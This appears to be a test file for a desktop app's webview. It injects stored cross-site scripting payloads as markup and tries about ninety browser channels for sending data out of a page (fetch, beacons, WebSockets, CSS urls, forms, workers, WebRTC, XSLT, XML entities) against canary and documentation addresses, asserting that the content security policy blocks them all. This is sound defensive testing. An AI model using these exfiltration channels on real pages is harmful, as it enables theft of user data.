/**
 * Each wall alone (S11c, W06): the same payloads put straight into the page as markup, as if nothing of ours had cleaned
 * them, so that only the policy and the window stand; and every way out of a page that script of a stranger could try.
 */
import assert from 'node:assert/strict';
import { createServer } from 'node:net';
import { after, before, test } from 'node:test';
import { armCanary, Counted, hasData, payloads, readCanary } from './payloads.mjs';

const given = await import('./window.mjs');
const counted = new Counted(given.program);
process.env.HINDCAST_DESKTOP = counted.program;
const { Desk, missing, until } = await import('./window.mjs?counted');

const lacks = missing();
const left = { skip: lacks ? `no window here: ${lacks}` : false };
const ALL = payloads();
const BATCH = 120;
let desk, window, mark, server;
let reached = 0;

before(async () => {
  if (lacks) return;
  console.log(`${ALL.length} payloads${hasData ? '' : ' of our own only: target/data is not unpacked'}; ${counted.can ? 'connections are counted by strace' : 'strace cannot run here: connections off this machine are not counted'}`);
  server = createServer((socket) => { reached += 1; socket.destroy(); });
  await new Promise((ready) => server.listen(0, '127.0.0.1', ready));
  desk = await Desk.open();
  window = await desk.window();
  mark = await window.js(armCanary);
  // Elements are what these tests make themselves; what they must not do is run.
  await window.js(() => window.__pwn.watch.disconnect());
});

after(async () => {
  await desk?.close();
  server?.close();
  counted.close();
});

async function quiet(where, seen) {
  assert.equal(seen.mark, mark, `${where}: the page was left`);
  assert.deepEqual(seen.ran, [], `${where}: something ran`);
  assert.deepEqual(counted.outside(), [], `${where}: connections`);
  assert.equal(reached, 0, `${where}: a server on this machine was reached`);
}

/** Puts markup into the page, wakes every handler in it, and makes its scripts such as a parser would run. */
async function wake(texts, done) {
  // The program itself stays in the page, hidden: what is injected stands beside it, as it would in an attack.
  // In a shadow, where what the page itself does about links does not reach.
  const host = document.createElement('div');
  const box = document.createElement('div');
  document.body.append(host);
  host.attachShadow({ mode: 'open' }).append(box);
  const pause = (ms) => new Promise((next) => setTimeout(next, ms));
  const makeScripts = (root) =>
    root.querySelectorAll('script').forEach((dead) => {
      const live = document.createElement('script');
      for (const { name, value } of dead.attributes) try { live.setAttribute(name, value); } catch { /* no name for an attribute */ }
      live.textContent = dead.textContent;
      dead.replaceWith(live);
    });
  for (const text of texts) {
    const one = document.createElement('div');
    one.innerHTML = text;
    box.append(one);
    makeScripts(one);
  }
  await pause(60);
  const events = ['click', 'mouseover', 'mouseenter', 'focus', 'focusin', 'blur', 'input', 'change', 'keydown', 'error', 'load', 'toggle', 'animationstart', 'animationend', 'transitionend', 'pointerdown', 'wheel', 'submit', 'start', 'begin', 'drag', 'copy', 'paste'];
  // A link to a place of our own only leads there, and one that cannot be parsed is the page's affair: not asked here.
  const keepHere = (event) => {
    const link = event.target instanceof Element ? event.target.closest('a, area') : null;
    const to = link?.getAttribute('href') ?? link?.getAttribute('xlink:href') ?? '';
    if (link && (!URL.canParse(to, location.href) || new URL(to, location.href).href.startsWith(`${location.origin}/`))) event.preventDefault();
  };
  box.addEventListener('click', keepHere, true);
  for (const element of box.querySelectorAll('*')) {
    for (const name of events) {
      const own = element[`on${name}`];
      if (typeof own === 'function') window.__pwn.ran(`a handler was compiled: ${name}`);
      if (element.attributes.length > 0 && name !== 'click' && name !== 'submit') element.dispatchEvent(new Event(name, { bubbles: true, cancelable: true }));
    }
    try {
      if (typeof element.click === 'function' && element.attributes.length > 0) element.click();
      if (element instanceof HTMLFormElement) element.submit();
    } catch { /* a form that names its own submit */ }
  }
  await pause(60);
  host.remove();
  done(null);
}

test('the policy alone holds', left, async () => {
  let held = 0;
  const reloads = [];
  const put = async (texts) => {
    await window.jsAsync(wake, texts).catch(() => {});
    const seen = await window.js(readCanary).catch(() => ({ mark: null }));
    if (seen.mark === mark) return quiet(`payloads from ${JSON.stringify(texts[0]).slice(0, 80)}`, seen);
    // Markup may ask for the own page once more, which ends what was being tried: the rest is tried again without it.
    await until(() => window.js(() => location.href.startsWith('tauri://localhost') && document.querySelector('nav') !== null).catch(() => false), `the own page is there after ${JSON.stringify(texts).slice(0, 400)}`);
    held += before;
    mark = await window.js(armCanary);
    await window.js(() => window.__pwn.watch.disconnect());
    if (texts.length === 1) return void reloads.push(texts[0]);
    await put(texts.slice(0, texts.length >> 1));
    await put(texts.slice(texts.length >> 1));
  };
  let before = 0;
  for (let from = 0; from < ALL.length; from += BATCH) {
    await put(ALL.slice(from, from + BATCH));
    before = (await window.js(readCanary)).violations;
  }
  await window.jsAsync((done) => setTimeout(() => done(null), 1_500));
  const seen = await window.js(readCanary);
  await quiet('after all', seen);
  // The wall was met: without it these would have run or loaded.
  held += seen.violations;
  assert.ok(held > ALL.length / 20, `${held} violations`);
  console.log(`${ALL.length} payloads as markup, ${reloads.length} of which reload the page: ${held} times the policy held, ${seen.runs} ran; ${counted.seen()} connections in all, ${counted.outside().length} outside`);
});

/** Ways out of a page: each gets an address and tries to reach it. */
const WAYS = {
  fetch: (to) => fetch(to),
  fetchNoCors: (to) => fetch(to, { mode: 'no-cors' }),
  fetchKeepalive: (to) => fetch(to, { keepalive: true, method: 'POST', body: 'x' }),
  xhr: (to) => { const request = new XMLHttpRequest(); request.open('GET', to); request.send(); },
  xhrSync: (to) => { const request = new XMLHttpRequest(); request.open('GET', to, false); request.send(); },
  beacon: (to) => navigator.sendBeacon(to, 'x'),
  websocket: (to) => new WebSocket(to.replace('http', 'ws')),
  websocketTls: (to) => new WebSocket(to.replace(/^https?/, 'wss')),
  eventSource: (to) => new EventSource(to),
  webTransport: (to) => new WebTransport(to.replace('http:', 'https:')),
  image: (to) => { new Image().src = to; },
  imageSet: (to, put) => put('img', { srcset: `${to} 2x` }),
  picture: (to, put) => { const source = document.createElement('source'); source.srcset = to; put('picture', {}).append(source, document.createElement('img')); },
  imageInput: (to, put) => put('input', { type: 'image', src: to }),
  poster: (to, put) => put('video', { poster: to }),
  video: (to, put) => put('video', { src: to, autoplay: '', preload: 'auto' }),
  audio: (to, put) => put('audio', { src: to, autoplay: '' }),
  track: (to, put) => { const video = put('video', {}); const track = document.createElement('track'); track.src = to; track.default = true; video.append(track); },
  script: (to, put) => put('script', { src: to }),
  moduleScript: (to, put) => put('script', { type: 'module', src: to }),
  dynamicImport: (to) => import(/* @vite-ignore */ to),
  stylesheet: (to, put) => put('link', { rel: 'stylesheet', href: to }),
  alternateStylesheet: (to, put) => put('link', { rel: 'alternate stylesheet', href: to }),
  prefetch: (to, put) => put('link', { rel: 'prefetch', href: to }),
  preload: (to, put) => put('link', { rel: 'preload', as: 'image', href: to }),
  preloadFetch: (to, put) => put('link', { rel: 'preload', as: 'fetch', href: to }),
  modulepreload: (to, put) => put('link', { rel: 'modulepreload', href: to }),
  prerender: (to, put) => put('link', { rel: 'prerender', href: to }),
  preconnect: (to, put) => put('link', { rel: 'preconnect', href: to }),
  dnsPrefetch: (to, put) => put('link', { rel: 'dns-prefetch', href: to }),
  icon: (to, put) => put('link', { rel: 'icon', href: to }),
  manifest: (to, put) => put('link', { rel: 'manifest', href: to }),
  styleElement: (to, put) => { put('style', {}).textContent = `@import url(${to}); body { background: url(${to}) }`; },
  styleAttribute: (to, put) => put('div', { style: `background: url(${to})` }).append('x'),
  styleProperty: (to, put) => { const one = put('div', {}); one.style.backgroundImage = `url(${to})`; one.append('x'); },
  styleCursor: (to, put) => { const one = put('div', {}); one.style.cursor = `url(${to}), auto`; one.append('x'); },
  styleContent: (to, put) => { const one = put('div', {}); one.style.content = `url(${to})`; },
  styleMask: (to, put) => { const one = put('div', {}); one.style.maskImage = `url(${to})`; one.append('x'); },
  styleFilter: (to, put) => { const one = put('div', {}); one.style.filter = `url(${to}#f)`; one.append('x'); },
  styleSheetRule: (to) => { const sheet = new CSSStyleSheet(); sheet.replaceSync(`body { list-style-image: url(${to}) }`); document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet]; },
  insertedRule: (to) => document.styleSheets[0].insertRule(`h1 { background: url(${to}) }`),
  font: (to) => new FontFace('x', `url(${to})`).load(),
  fontRule: (to, put) => { document.styleSheets[0].insertRule(`@font-face { font-family: stranger; src: url(${to}) }`); const one = put('div', {}); one.style.fontFamily = 'stranger'; one.append('x'); },
  iframe: (to, put) => put('iframe', { src: to }),
  object: (to, put) => put('object', { data: to }),
  embed: (to, put) => put('embed', { src: to }),
  svgImage: (to, put) => put('div', {}).insertAdjacentHTML('beforeend', `<svg><image href="${to}" width="9" height="9"/></svg>`),
  svgUse: (to, put) => put('div', {}).insertAdjacentHTML('beforeend', `<svg><use href="${to}#x"/></svg>`),
  svgFeImage: (to, put) => put('div', {}).insertAdjacentHTML('beforeend', `<svg><filter id="strange"><feImage href="${to}"/></filter><rect width="9" height="9" filter="url(#strange)"/></svg>`),
  form: (to, put) => put('form', { action: to, method: 'post' }).submit(),
  formGet: (to, put) => put('form', { action: to }).submit(),
  formTarget: (to, put) => put('form', { action: to, target: '_blank' }).submit(),
  formButton: (to, put) => { const form = put('form', {}); const button = document.createElement('button'); button.formAction = to; form.append(button); button.click(); },
  link: (to, put) => put('a', { href: to }).click(),
  linkBlank: (to, put) => put('a', { href: to, target: '_blank' }).click(),
  ping: (to, put) => put('a', { href: '#/incidents', ping: to }).click(),
  download: (to, put) => put('a', { href: to, download: 'x' }).click(),
  downloadBlob: (to, put) => put('a', { href: URL.createObjectURL(new Blob([to])), download: 'x' }).click(),
  metaRefresh: (to, put) => document.head.append(put('meta', { 'http-equiv': 'refresh', content: `0;url=${to}` })),
  metaPolicy: (to, put) => { document.head.append(put('meta', { 'http-equiv': 'Content-Security-Policy', content: `default-src * 'unsafe-inline'; report-uri ${to}` })); new Image().src = to; },
  base: (to, put) => { document.head.append(put('base', { href: to })); new Image().src = 'beside.png'; },
  open: (to) => window.__open(to),
  openNamed: (to) => window.__open(to, 'x', 'popup,width=9'),
  location: (to) => { location.href = to; },
  locationReplace: (to) => location.replace(to),
  historyPush: (to) => history.pushState(null, '', to),
  worker: (to) => new Worker(to),
  blobWorker: (to) => new Worker(URL.createObjectURL(new Blob([`fetch('${to}')`]))),
  sharedWorker: (to) => new SharedWorker(to),
  worklet: (to) => CSS.paintWorklet.addModule(to),
  audioWorklet: (to) => new AudioContext().audioWorklet.addModule(to),
  serviceWorker: (to) => navigator.serviceWorker.register(to),
  webrtc: async (to) => { const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${new URL(to).host}` }] }); peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer()); },
  webrtcName: async () => { const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:canary.invalid:3478' }] }); peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer()); },
  cache: async (to) => (await caches.open('x')).add(to),
  reporting: (to) => { new ReportingObserver(() => fetch(to)).observe(); },
  clipboardImage: (to) => navigator.clipboard.write([new ClipboardItem({ 'text/html': new Blob([`<img src="${to}">`], { type: 'text/html' }) })]),
  parser: (to) => document.body.append(new DOMParser().parseFromString(`<img src="${to}"><link rel=stylesheet href="${to}">`, 'text/html').body),
  fragment: (to) => document.body.append(document.createRange().createContextualFragment(`<img src="${to}"><script src="${to}"></${'script'}>`)),
  write: (to, put) => { const frame = put('iframe', {}); frame.contentDocument.write(`<img src="${to}"><script src="${to}"></${'script'}>`); },
  blankFrameFetch: (to, put) => put('iframe', {}).contentWindow.fetch(to),
  blankFrameImage: (to, put) => { const frame = put('iframe', {}); const image = frame.contentDocument.createElement('img'); image.src = to; frame.contentDocument.body.append(image); },
  share: (to) => navigator.share({ url: to }),
  registerProtocol: (to) => navigator.registerProtocolHandler('web+x', `${to}?%s`),
  payment: (to) => new PaymentRequest([{ supportedMethods: to }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment(),
  media: (to) => { const source = new MediaSource(); const video = document.createElement('video'); video.src = URL.createObjectURL(source); video.src = to; video.load(); },
  xslt: (to) => { const sheet = new DOMParser().parseFromString(`<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:import href="${to}"/></xsl:stylesheet>`, 'text/xml'); new XSLTProcessor().importStylesheet(sheet); },
  xmlEntity: (to) => new DOMParser().parseFromString(`<!DOCTYPE x SYSTEM "${to}"><x/>`, 'text/xml'),
};

test('no way out of the page', left, async () => {
  const targets = [`https://canary.invalid/x`, `http://127.0.0.1:${server.address().port}/x`, 'http://198.51.100.7/x', 'http://[2001:db8::7]/x'];
  // The canary stands in for `open`; the window's own is asked for here.
  await window.js(() => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    window.__open = frame.contentWindow?.open?.bind(window) ?? (() => null);
  });
  const names = Object.keys(WAYS);
  let tried = 0;
  const out = { made: 0, thrown: 0 };
  for (const target of targets) {
    for (const name of names) {
      tried += 1;
      const came = await window.jsAsync(
        `(to, done) => {
          const put = (tag, attributes) => { const element = document.createElement(tag); for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value); if (tag === 'a') { const host = document.createElement('div'); document.body.append(host); host.attachShadow({ mode: 'open' }).append(element); } else document.body.append(element); (window.__put ??= []).push(element); return element; };
          const end = (what) => setTimeout(() => { (window.__put ?? []).splice(0).forEach((element) => element.remove()); done(what); }, 15);
          try { Promise.resolve((${WAYS[name]})(to, put)).then(() => {}, () => {}); end('made'); } catch (error) { end('thrown'); }
        }`,
        // A name of its own for each way, so that the log says which one was looked up.
        target.replace('canary', `${name.toLowerCase()}.canary`),
      );
      out[came] += 1;
    }
    await window.jsAsync((done) => setTimeout(() => done(null), 700));
    const seen = await window.js(readCanary);
    await quiet(`ways to ${target}`, seen);
  }
  console.log(`${tried} tries over ${names.length} ways (${out.made} made, ${out.thrown} thrown at once): ${counted.outside().length} connections, ${reached} reached a server here`);
});

test('what counts connections sees them', left, async (t) => {
  if (!counted.can) return t.skip('strace cannot run here');
  assert.ok(counted.seen() > 5, 'the window itself talks to its screen and bus');
  // The same judgement on lines such as strace writes.
  const lines = ['1 connect(9, {sa_family=AF_INET, sin_port=htons(443), sin_addr=inet_addr("198.51.100.7")}, 16) = -1', '1 connect(9, {sa_family=AF_INET, sin_port=htons(53), sin_addr=inet_addr("127.0.0.53")}, 16) = 0', '1 connect(9, {sa_family=AF_INET, sin_port=htons(4000), sin_addr=inet_addr("127.0.0.1")}, 16) = 0', '1 connect(9, {sa_family=AF_UNIX, sun_path="/tmp/x"}, 16) = 0'];
  assert.deepEqual(Counted.judge(lines), lines.slice(0, 2));
});
